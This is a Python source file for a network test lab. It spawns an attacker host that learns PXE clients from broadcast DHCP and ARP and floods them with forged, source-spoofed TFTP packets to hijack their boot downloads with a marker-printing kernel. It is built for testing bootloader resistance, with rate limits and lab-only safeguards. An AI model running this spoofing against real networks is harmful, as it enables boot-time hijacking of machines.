#!/usr/bin/env python3
"""spoofer.py - a third host on the lab's boot LAN that forges TFTP packets
at the PXE clients while they boot.

The attacker is a host of its own: a network namespace "<lab ns>-spoof"
holding one end of a veth pair (atk0, ATTACKER_HOST on the lab's /24, its
own MAC); the other end is a port of the lab's bridge br0, like a client's
tap.  It sees what any host on the segment sees - broadcasts - and nothing
of the unicast traffic between a client and the server.  (An extra address
on br0 itself would share the server's stack and see every packet of the
transfers: an on-path attacker, which no TFTP client can resist.)

It learns the clients the way a host on the segment can: from their
broadcast DHCPREQUESTs (chaddr, and the requested address, option 50, or
ciaddr) and from their ARP requests (sender MAC and address).  It never
reads the server's lease file.

Once told to go (go(), or at once when started armed) it sends, at most
MAX_RATE packets per second and for at most @seconds, Ethernet frames
built by hand on an AF_PACKET socket, from its own MAC to each client's:

  * "burst": a TFTP OACK (tsize FORGED_TSIZE, blksize FORGED_BLKSIZE) and
    right behind it, from the same source port, DATA 1 and DATA 2 holding
    the whole forged file (ending with its short block), so a client that
    takes the OACK then reads it: forged_kernel(), a Multiboot kernel of
    its own that prints MARKER on COM1 and ends QEMU (isa-debug-exit), so
    a client that boots it shows it;
  * "error": ERROR 1 "File not found";
  * "data": one DATA block k (1..8) of 1408 bytes (the block size mboot
    asks for) of attacker bytes, aimed at a transfer in progress;

each with the TFTP server's address as IPv4 source (spoofed; 6 in 7) or
the attacker's own (1 in 7), from UDP source port 69 (half) or a random
port in FORGED_SPORTS (half).  Destination ports: DENSE_PORTS (8) ports from
DENSE_BASE (mboot's TFTP client took 60000, 60001, ... in turn until its
ports were made unpredictable) get DENSE_SHARE of the packets (@dense_share);
the other packets sweep, in a random order per client, every port of SWEEP
(1024-65535; @sweep) but those and PXELINUX's own 49152-57343 (SYSLINUX's
TFTP client, not mboot's: hijacking it would fail the boot before mboot
runs).

It only ever sends on atk0 (refuses to run in its starter's network
namespace) and only to addresses of the lab's /24 it learned.  It counts
what it sent, by kind, source address, source port and target.

The witness: an nftables table in the lab's namespace counts what the
clients send to the server's address in answer to forgeries: an ACK to
port 69 (the server never sends from 69: dnsmasq answers from a fresh
port in 32768-60999) or to a port in FORGED_SPORTS (below the server's
ephemeral range) means a client took a forged OACK or DATA; an ERROR there
means it refused one (e.g. "unknown transfer ID").  It also counts the
attacker's frames the bridge passed on to the clients.

Interface (any lab runner): s = Spoofer(workdir, rate, seconds);
s.start(ns, armed=False); s.go(); s.stop(); s.stats().  Run as a script
("worker ...") it is the sending process, started by start() inside the
attacker's namespace.

SPDX-License-Identifier: GPL-2.0-or-later
"""
import ctypes
import json
import os
import random
import re
import select
import signal
import socket
import struct
import subprocess
import sys
import time

MAX_RATE = 5000                 # packets per second, hard limit
ATTACKER_HOST = 66              # the attacker's address: <lab net>.66
DENSE_BASE = 60000              # mboot's TFTP ports before h1's change ...
DENSE_PORTS = 8                 # ... 60000-60007 covered densely (a tk
                                # boot with 2 modules used 60000-60004)
DENSE_SHARE = 0.6               # of the packets
PXELINUX_PORTS = (49152, 57343)  # SYSLINUX's own TFTP client: left alone
SWEEP = (1024, 65535)           # the ports swept
FORGED_SPORTS = (1024, 32767)   # random source ports (below dnsmasq's)
FORGED_TSIZE = 700              # the forged file: 512 + 188 bytes
FORGED_BLKSIZE = 512
MBOOT_BLKSIZE = 1408            # what mboot asks for (data-phase blocks)
ATTACKER_BYTES = b"FORGED by the netlab spoofer. "
MARKER = "FORGED KERNEL RAN"       # what the forged kernel prints
WITNESS_TABLE = "netlab_spoofwitness"
VETH_LAB, VETH_ATK = "spoof0", "atk0"

ETH_P_ALL, ETH_P_IP, ETH_P_ARP = 0x0003, 0x0800, 0x0806


class SpooferError(RuntimeError):
    """The attacker could not be set up."""


def _run(cmd):
    """Run @cmd; raise SpooferError naming it and its stderr on failure."""
    r = subprocess.run(cmd, capture_output=True, text=True)
    if r.returncode != 0:
        raise SpooferError("%s: status %d: %s" % (
            " ".join(cmd), r.returncode, r.stderr.strip()))
    return r.stdout


def _die_with_parent():
    """preexec_fn: the worker gets SIGKILL when the lab process dies
    (prctl PR_SET_PDEATHSIG), so it never outlives the lab."""
    try:
        ctypes.CDLL(None, use_errno=True).prctl(1, signal.SIGKILL, 0, 0, 0)
    except (OSError, AttributeError):
        pass


class Spoofer:
    """The attacking host: its namespace, veth, worker process, witness."""

    def __init__(self, workdir, rate=MAX_RATE, seconds=300.0,
                 dense_share=DENSE_SHARE, sweep=SWEEP):
        if not 0 < rate <= MAX_RATE:
            raise SpooferError("spoofer rate %r outside 1..%d packets/s"
                               % (rate, MAX_RATE))
        if not 0 <= dense_share <= 1 or not 1024 <= sweep[0] <= sweep[1] \
                <= 65535:
            raise SpooferError("spoofer: dense share %r or sweep %r out of "
                               "range" % (dense_share, sweep))
        if not sweep_ports(sweep, dense_share):
            raise SpooferError("spoofer: no port to sweep in %d-%d (PXELINUX's "
                               "%d-%d and, with a dense share, %d-%d are "
                               "left out)" % (sweep + PXELINUX_PORTS + (
                                   DENSE_BASE, DENSE_BASE + DENSE_PORTS - 1)))
        self.dense_share = dense_share
        self.sweep = sweep
        self.workdir = workdir
        self.rate = int(rate)
        self.seconds = float(seconds)
        self.ns = None
        self.name = None
        self.proc = None
        self.statsfile = os.path.join(workdir, "spoofer.json")
        self.logfile = os.path.join(workdir, "spoofer.log")
        self.final = None
        self.went = False

    def start(self, ns, armed=False, targets=()):
        """Create the attacker next to lab namespace @ns (needs .name and
        .ipv4, the server's address on br0), the witness table, and start
        the worker, which sniffs at once and sends once armed (@armed, or
        go()).  @targets: (MAC "52:54:...", IPv4) pairs to attack from the
        start besides those sniffed (a stronger attacker, e.g. one that
        read the lease file).  Returns self; raises SpooferError."""
        self.ns = ns
        self.name = ns.name + "-spoof"
        net = ns.ipv4.rsplit(".", 1)[0]
        own = "%s.%d" % (net, ATTACKER_HOST)
        _run(["ip", "netns", "add", self.name])
        _run(["ip", "-n", ns.name, "link", "add", VETH_LAB, "type", "veth",
              "peer", "name", VETH_ATK, "netns", self.name])
        _run(["ip", "-n", ns.name, "link", "set", VETH_LAB, "master", "br0",
              "up"])
        _run(["ip", "-n", self.name, "link", "set", "lo", "up"])
        _run(["ip", "-n", self.name, "addr", "add", own + "/24", "dev",
              VETH_ATK])
        _run(["ip", "-n", self.name, "link", "set", VETH_ATK, "up"])
        mac = _run(["ip", "netns", "exec", self.name, "cat",
                    "/sys/class/net/%s/address" % VETH_ATK]).strip()
        self.mac = mac
        self._witness_add(ns, mac)
        cmd = ["ip", "netns", "exec", self.name, sys.executable,
               os.path.abspath(__file__), "worker", "--iface", VETH_ATK,
               "--own-ip", own, "--server-ip", ns.ipv4,
               "--rate", str(self.rate), "--seconds", str(self.seconds),
               "--stats", self.statsfile, "--log", self.logfile,
               "--not-in", str(os.stat("/proc/self/ns/net").st_ino),
               "--dense-share", str(self.dense_share),
               "--sweep", "%d-%d" % self.sweep]
        for mac_ip in targets:
            cmd += ["--target", "%s/%s" % mac_ip]
        if armed:
            cmd.append("--armed")
            self.went = True
        err = open(self.logfile + ".stderr", "w")
        self.proc = subprocess.Popen(cmd, stdin=subprocess.PIPE,
                                     stdout=err, stderr=err,
                                     start_new_session=True,
                                     preexec_fn=_die_with_parent)
        err.close()
        deadline = time.monotonic() + 10
        while not os.path.exists(self.statsfile):
            if self.proc.poll() is not None or time.monotonic() > deadline:
                self.stop()
                raise SpooferError("spoofer worker did not start: %s" %
                                   _tail(self.logfile + ".stderr"))
            time.sleep(0.02)
        return self

    def go(self):
        """Start sending (once; later calls do nothing)."""
        if self.went or not self.proc or self.proc.poll() is not None:
            return
        self.went = True
        try:
            self.proc.stdin.write(b"go\n")
            self.proc.stdin.flush()
        except OSError:
            pass

    def stop(self):
        """End the worker (EOF on its stdin, then TERM/KILL), keep its
        counts and the witness's, remove the attacker's namespace (its veth
        goes with it).  Never raises."""
        if self.proc:
            try:
                self.proc.stdin.close()
            except OSError:
                pass
            for sig, wait in ((None, 3), (signal.SIGTERM, 3),
                              (signal.SIGKILL, 5)):
                if sig is not None and self.proc.poll() is None:
                    try:
                        os.killpg(self.proc.pid, sig)
                    except ProcessLookupError:
                        pass
                try:
                    self.proc.wait(wait)
                    break
                except subprocess.TimeoutExpired:
                    continue
        if self.final is None and self.ns is not None:
            self.final = self._collect()
        if self.name:
            subprocess.run(["ip", "netns", "delete", self.name],
                           capture_output=True)
            self.name = None

    def stats(self):
        """{"sent": {...}, "targets": [...], "witness": {...}, ...}: the
        worker's counts (see worker_main) and the witness counters; the
        final ones after stop()."""
        return self.final if self.final is not None else self._collect()

    def _collect(self):
        """The worker's stats file plus the witness counters."""
        try:
            with open(self.statsfile) as f:
                out = json.load(f)
        except (OSError, ValueError):
            out = {"sent": {}, "targets": [], "error": "no stats file"}
        if self.proc and self.proc.poll() not in (None, 0):
            out["error"] = "worker exited with status %d: %s" % (
                self.proc.returncode, _tail(self.logfile + ".stderr", 2))
        out["witness"] = self._witness_counts()
        out["went"] = self.went
        return out

    def _witness_add(self, ns, mac):
        """The counters in the lab's namespace (see the module's doc)."""
        srv = ns.ipv4
        lo, hi = FORGED_SPORTS
        rules = ("table inet %s {\n"
                 " chain in { type filter hook input priority -10; "
                 "policy accept;\n" % WITNESS_TABLE)
        for label, ports in (("69", "69"), ("forged", "%d-%d" % (lo, hi))):
            for op, what in ((4, "ack"), (5, "error")):
                rules += ("  ip daddr %s udp dport %s @th,64,16 %d counter "
                          "comment \"%s_%s\"\n" % (srv, ports, op, what,
                                                   label))
        rules += (" }\n}\n"
                  "table bridge %s {\n"
                  " chain passed { type filter hook forward priority -10; "
                  "policy accept;\n"
                  "  ether saddr %s counter comment \"bridged\"\n"
                  " }\n}\n" % (WITNESS_TABLE, mac))
        r = subprocess.run(["ip", "netns", "exec", ns.name, "nft", "-f", "-"],
                           input=rules, capture_output=True, text=True)
        if r.returncode != 0:
            raise SpooferError("nft (witness table): %s" % r.stderr.strip())

    def _witness_counts(self):
        """{"ack_69", "error_69", "ack_forged", "error_forged", "bridged"}:
        packets counted; {} once the lab namespace is gone."""
        out = {}
        for fam in ("inet", "bridge"):
            r = subprocess.run(["ip", "netns", "exec", self.ns.name, "nft",
                                "list", "table", fam, WITNESS_TABLE],
                               capture_output=True, text=True)
            for n, label in re.findall(
                    r"packets (\d+) bytes \d+ comment \"(\w+)\"", r.stdout):
                out[label] = int(n)
        return out


def _tail(path, n=5):
    """The last @n lines of @path, joined (for error messages)."""
    try:
        with open(path, errors="replace") as f:
            return " | ".join(f.read().strip().splitlines()[-n:])
    except OSError:
        return "(no output)"


# ---------------------------------------------------------------- worker

def _sum16(data):
    """The one's complement sum of @data's big-endian 16-bit words,
    unfolded (an odd byte is padded with zero)."""
    if len(data) & 1:
        data += b"\0"
    return sum(struct.unpack("!%dH" % (len(data) // 2), data))


def _fold(s):
    """Fold sum @s to 16 bits and complement it (an Internet checksum)."""
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def forged_kernel():
    """The forged file: FORGED_TSIZE bytes, a Multiboot 1 kernel loaded
    whole at 1 MiB through the header's address fields (flag 16; no ELF),
    whose code writes MARKER to COM1 and then 0x31 to port 0xf4 (QEMU's
    isa-debug-exit, as the lab's clients have), padded with ATTACKER_BYTES.
    """
    base, magic, flags = 0x100000, 0x1BADB002, 0x00010000
    code_at = 32
    msg_at = code_at + 24
    header = struct.pack("<8I", magic, flags, (-(magic + flags)) & 0xffffffff,
                         base, base, 0, 0, base + code_at)
    code = (b"\xbe" + struct.pack("<I", base + msg_at) +  # mov esi, msg
            b"\x66\xba\xf8\x03"     # mov dx, 0x3f8
            b"\xac"                 # 1: lodsb
            b"\x84\xc0"             # test al, al
            b"\x74\x03"             # jz 2f
            b"\xee"                 # out dx, al
            b"\xeb\xf8"             # jmp 1b
            b"\xb0\x31"             # 2: mov al, 0x31
            b"\xe6\xf4"             # out 0xf4, al
            b"\xf4\xeb\xfd")        # hlt; jmp hlt
    assert len(header) == code_at and len(code) == msg_at - code_at
    body = header + code + b"\r\n" + MARKER.encode() + b"\r\n\0"
    pad = ATTACKER_BYTES * (FORGED_TSIZE // len(ATTACKER_BYTES) + 1)
    return (body + pad)[:FORGED_TSIZE]


class Forger:
    """Builds the forged frames; the payloads' sums are computed once, so a
    frame costs its headers only."""

    def __init__(self, own_mac):
        self.own_mac = own_mac
        self.ident = random.randrange(65536)
        filler = (ATTACKER_BYTES * (2000 // len(ATTACKER_BYTES) + 1))
        oack = (b"\0\x06tsize\0%d\0blksize\0%d\0"
                % (FORGED_TSIZE, FORGED_BLKSIZE))
        self.payloads = {
            "oack": oack,
            "data1": b"\0\x03\0\x01" + forged_kernel()[:FORGED_BLKSIZE],
            "data2": b"\0\x03\0\x02" + forged_kernel()[FORGED_BLKSIZE:],
            "error": b"\0\x05\0\x01File not found\0"}
        for k in range(1, 9):
            self.payloads["blk%d" % k] = struct.pack("!HH", 3, k) + \
                filler[:MBOOT_BLKSIZE]
        self.sums = {k: _sum16(v) for k, v in self.payloads.items()}

    def frame(self, dst_mac, src_ip, dst_ip, sport, dport, which):
        """One Ethernet frame: payload @which from @src_ip:@sport to
        @dst_ip:@dport (addresses as 4 bytes, MACs as 6)."""
        payload = self.payloads[which]
        ulen = 8 + len(payload)
        s = self.sums[which] + _sum16(src_ip + dst_ip) + 17 + ulen + \
            sport + dport + ulen
        csum = _fold(s) or 0xffff
        udp = struct.pack("!HHHH", sport, dport, ulen, csum)
        self.ident = (self.ident + 1) & 0xffff
        iph = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + ulen, self.ident,
                          0, 64, 17, 0, src_ip, dst_ip)
        iph = iph[:10] + struct.pack("!H", _fold(_sum16(iph))) + iph[12:]
        return dst_mac + self.own_mac + b"\x08\x00" + iph + udp + payload


def learn(frame, net, skip):
    """(mac, ip) of a client from a broadcast @frame: a DHCPREQUEST
    (option 50 or ciaddr) or an ARP request/reply from an address of /24
    @net (3 bytes) that is not in @skip; else None."""
    if len(frame) < 42:
        return None
    etype = struct.unpack("!H", frame[12:14])[0]
    if etype == ETH_P_ARP:
        mac, ip = frame[22:28], frame[28:32]
    elif etype == ETH_P_IP and frame[23] == 17:
        ihl = (frame[14] & 15) * 4
        udp = 14 + ihl
        if struct.unpack("!H", frame[udp + 2:udp + 4])[0] != 67:
            return None
        b = frame[udp + 8:]
        if len(b) < 240 or b[0] != 1 or b[236:240] != b"\x63\x82\x53\x63":
            return None
        mac, ip, mtype, i = b[28:34], b[12:16], None, 240
        while i + 1 < len(b) and b[i] != 255:
            if b[i] == 0:
                i += 1
                continue
            code, n = b[i], b[i + 1]
            if code == 53 and n == 1:
                mtype = b[i + 2]
            elif code == 50 and n == 4:
                ip = b[i + 2:i + 6]
            i += 2 + n
        if mtype != 3:
            return None
    else:
        return None
    if ip[:3] != net or ip in skip or ip[3] in (0, 255):
        return None
    return mac, ip


def sweep_ports(sweep, dense_share):
    """The ports of range @sweep (lo, hi) the sweep covers: not PXELINUX's,
    nor, when the dense ports get a share (@dense_share > 0), those."""
    lo, hi = PXELINUX_PORTS
    return [p for p in range(sweep[0], sweep[1] + 1)
            if not lo <= p <= hi and not (
                dense_share > 0 and
                DENSE_BASE <= p < DENSE_BASE + DENSE_PORTS)]


class Plan:
    """Which packet goes where next: the dense ports get DENSE_SHARE of
    the packets, the sweep the rest; kinds, sources and source ports drawn
    at random (seeded)."""

    def __init__(self, server_ip, own_ip, seed, dense_share, sweep):
        self.rnd = random.Random(seed)
        self.dense_share = dense_share
        self.sweep = sweep
        self.server_ip = server_ip
        self.own_ip = own_ip
        self.targets = []          # [(mac, ip)]
        self.dense_i = 0
        self.sweeps = {}           # ip -> list of ports, position
        self.sent_dense = self.sent_sweep = 0

    def add(self, mac, ip):
        """A new client to attack."""
        self.targets.append((mac, ip))
        ports = sweep_ports(self.sweep, self.dense_share)
        self.rnd.shuffle(ports)
        self.sweeps[ip] = [ports, 0]

    def next(self):
        """The next attempt: (mac, ip, dport, group, kind, src, sport)."""
        total = self.sent_dense + self.sent_sweep
        dense = self.dense_share > 0 and \
            self.sent_dense <= self.dense_share * total
        if dense:
            i = self.dense_i
            self.dense_i += 1
            mac, ip = self.targets[i % len(self.targets)]
            dport = DENSE_BASE + (i // len(self.targets)) % DENSE_PORTS
        else:
            mac, ip = self.targets[self.rnd.randrange(len(self.targets))]
            sw = self.sweeps[ip]
            dport = sw[0][sw[1]]
            sw[1] = (sw[1] + 1) % len(sw[0])
        kind = self.rnd.choices(("burst", "error", "data"), (5, 3, 2))[0]
        src = "own" if self.rnd.randrange(7) == 0 else "spoofed"
        sport = 69 if self.rnd.randrange(2) == 0 else \
            self.rnd.randint(*FORGED_SPORTS)
        return mac, ip, dport, "dense" if dense else "sweep", kind, src, sport


def worker_main(argv):
    """The sending process (inside the attacker's namespace): sniff, and
    once armed send forgeries until stdin closes, SIGTERM, or @seconds
    after the start of sending.  Writes the counts to --stats every
    second and at the end.  Returns the exit status."""
    import argparse
    ap = argparse.ArgumentParser(prog="spoofer.py worker")
    ap.add_argument("--iface", required=True)
    ap.add_argument("--own-ip", required=True)
    ap.add_argument("--server-ip", required=True)
    ap.add_argument("--rate", type=int, default=MAX_RATE)
    ap.add_argument("--seconds", type=float, default=300)
    ap.add_argument("--stats", required=True)
    ap.add_argument("--log", required=True)
    ap.add_argument("--armed", action="store_true")
    ap.add_argument("--target", action="append", default=[],
                    metavar="MAC/IP", help="a client known beforehand")
    ap.add_argument("--seed", type=int, default=None)
    ap.add_argument("--dense-share", type=float, default=DENSE_SHARE)
    ap.add_argument("--sweep", default="%d-%d" % SWEEP)
    ap.add_argument("--not-in", type=int, required=True,
                    help="inode of the starter's network namespace")
    a = ap.parse_args(argv)
    log = open(a.log, "a")

    def say(msg):
        """A time-stamped line in the spoofer's log."""
        log.write("[%.3f] %s\n" % (time.monotonic() - t0, msg))
        log.flush()
    t0 = time.monotonic()
    if os.stat("/proc/self/ns/net").st_ino == a.not_in:
        say("refusing: this is the starter's own network namespace, not "
            "the attacker's")
        return 2
    rate = min(max(a.rate, 1), MAX_RATE)
    server = socket.inet_aton(a.server_ip)
    own = socket.inet_aton(a.own_ip)
    net = own[:3]
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                         socket.htons(ETH_P_ALL))
    sock.bind((a.iface, ETH_P_ALL))
    sock.setblocking(False)
    with open("/sys/class/net/%s/address" % a.iface) as f:
        own_mac = bytes.fromhex(f.read().strip().replace(":", ""))
    forger = Forger(own_mac)
    seed = a.seed if a.seed is not None else random.randrange(1 << 30)
    sweep = tuple(int(x) for x in a.sweep.split("-"))
    plan = Plan(server, own, seed, a.dense_share, sweep)
    known = {}
    for t in a.target:
        m, ip = t.split("/")
        got = (bytes.fromhex(m.replace(":", "")), socket.inet_aton(ip))
        if got[1][:3] != net or len(got[0]) != 6:
            say("refusing target %s: not a MAC and an address of %s/24"
                % (t, socket.inet_ntoa(net + b"\0")))
            return 2
        known[got] = ("given", 0.0)
        plan.add(*got)
    sent = {}
    per_target = {}
    stop = []
    signal.signal(signal.SIGTERM, lambda s, f: stop.append("SIGTERM"))
    armed = a.armed
    go_t = t0 if armed else None
    say("attacker %s on %s (MAC %s), server %s, rate %d/s, %g s, seed %d, "
        "dense share %g, sweep %s%s"
        % (a.own_ip, a.iface, own_mac.hex(":"), a.server_ip, rate, a.seconds,
           seed, a.dense_share, a.sweep, ", armed" if armed else ""))

    def count(key, n=1):
        """Add @n to counter @key."""
        sent[key] = sent.get(key, 0) + n

    def dump(final=False):
        """Write the stats file (atomically)."""
        d = {"rate": rate, "seed": seed, "dense_share": a.dense_share,
             "sweep": a.sweep, "own_ip": a.own_ip,
             "own_mac": own_mac.hex(":"), "armed": armed,
             "t_go": None if go_t is None else round(go_t - t0, 3),
             "t_end": round(time.monotonic() - t0, 3), "final": final,
             "sent": dict(sorted(sent.items())),
             "per_target": per_target,
             "targets": [{"mac": m.hex(":"), "ip": socket.inet_ntoa(i),
                          "how": known[(m, i)][0], "t": known[(m, i)][1]}
                         for m, i in plan.targets],
             "stopped_by": stop[0] if stop else None}
        with open(a.stats + ".tmp", "w") as f:
            json.dump(d, f, indent=1)
        os.replace(a.stats + ".tmp", a.stats)
    for m, ip in plan.targets:
        per_target[socket.inet_ntoa(ip)] = {}
    dump()
    last_dump = time.monotonic()
    budget_t = time.monotonic()
    stdin_open = True
    while not stop:
        now = time.monotonic()
        if go_t is not None and now - go_t > a.seconds:
            stop.append("time limit")
            break
        wait = 0.002 if (armed and plan.targets) else 0.1
        fds = [sock] + ([sys.stdin] if stdin_open else [])
        try:
            r, _, _ = select.select(fds, [], [], wait)
        except InterruptedError:
            continue
        if sys.stdin in r:
            line = sys.stdin.readline()
            if not line:
                stop.append("end of boot (stdin closed)")
                stdin_open = False
                break
            if line.strip() == "go" and not armed:
                armed = True
                go_t = budget_t = time.monotonic()
                say("go")
        if sock in r:
            for _ in range(256):
                try:
                    fr = sock.recv(2048)
                except BlockingIOError:
                    break
                if fr[6:12] == own_mac:
                    continue
                got = learn(fr, net, (server, own))
                if got and got not in known:
                    how = "ARP" if fr[12:14] == b"\x08\x06" else "DHCPREQUEST"
                    known[got] = (how, round(time.monotonic() - t0, 3))
                    plan.add(*got)
                    per_target[socket.inet_ntoa(got[1])] = {}
                    say("learned %s at %s from its %s" % (
                        socket.inet_ntoa(got[1]), got[0].hex(":"), how))
        if not (armed and plan.targets):
            budget_t = time.monotonic()
            continue
        now = time.monotonic()
        allowed = int((now - budget_t) * rate)
        # Never more than 50 ms worth at once (no burst after a stall).
        allowed = min(allowed, rate // 20 + 1)
        n = 0
        while n < allowed:
            mac, ip, dport, group, kind, src, sport = plan.next()
            sip = server if src == "spoofed" else own
            names = {"burst": ("oack", "data1", "data2"), "error": ("error",),
                     "data": ("blk%d" % plan.rnd.randint(1, 8),)}[kind]
            for which in names:
                fr = forger.frame(mac, sip, ip, sport, dport, which)
                try:
                    sock.send(fr)
                except OSError as e:
                    count("send_errors")
                    count("send_error:" + e.__class__.__name__)
                    continue
                k = "oack" if which == "oack" else \
                    "error" if which == "error" else "data"
                count("packets")
                count(k)
                count("%s:%s" % (k, src))
                count("%s:sport69" % k if sport == 69 else
                      "%s:sport_random" % k)
                count("%s:%s" % (k, group))
                t = per_target[socket.inet_ntoa(ip)]
                t[group] = t.get(group, 0) + 1
                if group == "dense":
                    t["dense:%d" % dport] = t.get("dense:%d" % dport, 0) + 1
                n += 1
            if group == "dense":
                plan.sent_dense += len(names)
            else:
                plan.sent_sweep += len(names)
        budget_t += n / rate
        if time.monotonic() - last_dump >= 1.0:
            dump()
            last_dump = time.monotonic()
    say("stopped (%s): %d packets" % (stop[0] if stop else "?",
                                      sent.get("packets", 0)))
    dump(final=True)
    return 0


if __name__ == "__main__":
    if len(sys.argv) > 1 and sys.argv[1] == "worker":
        sys.exit(worker_main(sys.argv[2:]))
    print("usage: spoofer.py worker ... (started by Spoofer.start)",
          file=sys.stderr)
    sys.exit(2)
